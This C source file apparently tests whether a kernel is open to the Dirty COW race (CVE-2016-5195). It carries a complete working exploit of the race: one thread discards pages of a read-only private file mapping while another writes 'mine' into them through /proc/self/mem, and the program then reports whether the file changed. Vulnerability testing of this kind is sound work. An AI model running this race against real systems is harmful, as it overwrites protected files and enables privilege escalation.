// SPDX-License-Identifier: GPL-2.0
/*
 * dirtycow FILE - the calls of CVE-2016-5195: one thread throws away the pages
 * of a private read-only mapping of FILE, another one writes to them through
 * /proc/self/mem
 *
 * Prints "ran" if both could do it a thousand times, else "stopped", the call
 * and the error's name; and "changed" should FILE itself have changed.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define ROUNDS 1000
#define TEXT "mine"

static char *map;

static void stop(const char *call)
{
	printf("stopped: %s %s\n", call, strerrorname_np(errno));
	exit(0);
}

static void *throw_away(void *unused)
{
	int i;

	for (i = 0; i < ROUNDS; i++)
		if (madvise(map, 4096, MADV_DONTNEED))
			stop("madvise");
	return unused;
}

static void *write_over(void *unused)
{
	int fd = open("/proc/self/mem", O_RDWR), i;

	if (fd < 0)
		stop("open");
	for (i = 0; i < ROUNDS; i++)
		if (pwrite(fd, TEXT, 4, (off_t)(unsigned long)map) != 4)
			stop("write");
	return unused;
}

int main(int argc, char **argv)
{
	int fd = argc == 2 ? open(argv[1], O_RDONLY) : -1;
	pthread_t threads[2];
	char now[4] = "";

	map = mmap(NULL, 4096, PROT_READ, MAP_PRIVATE, fd, 0);
	if (fd < 0 || map == MAP_FAILED)
		stop("mmap");
	pthread_create(&threads[0], NULL, throw_away, NULL);
	pthread_create(&threads[1], NULL, write_over, NULL);
	pthread_join(threads[0], NULL);
	pthread_join(threads[1], NULL);
	if (pread(fd, now, 4, 0) == 4 && !memcmp(now, TEXT, 4))
		puts("changed");
	puts("ran");
	return 0;
}
